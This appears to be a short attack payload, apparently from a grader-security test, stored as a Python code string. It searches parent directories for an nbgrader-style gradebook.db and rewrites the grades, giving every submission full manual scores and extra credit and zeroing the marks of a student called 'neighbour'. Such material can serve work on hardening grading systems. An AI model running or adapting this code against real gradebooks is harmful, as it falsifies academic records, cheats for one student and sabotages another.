"""The gradebook is opened by its path: the attack's own marks become full ones, given by hand, its neighbour's none."""

OPENING = """
import sqlite3
from pathlib import Path

for place in ("@COURSE@/gradebook.db", *(str(one / "gradebook.db") for one in Path.cwd().parents)):
    try:
        with sqlite3.connect(f"file:{place}?mode=rw", uri=True, timeout=2) as book:
            book.execute("UPDATE grade SET manual_score = 5.0, needs_manual_grade = 0, extra_credit = 9.0")
            book.execute(
                "UPDATE grade SET auto_score = 0.0, manual_score = 0.0 WHERE notebook_id IN (SELECT n.id FROM "
                "submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
                "WHERE a.student_id = 'neighbour')"
            )
        print("done", place)
    except (sqlite3.Error, OSError) as error:
        print(place, error)
"""
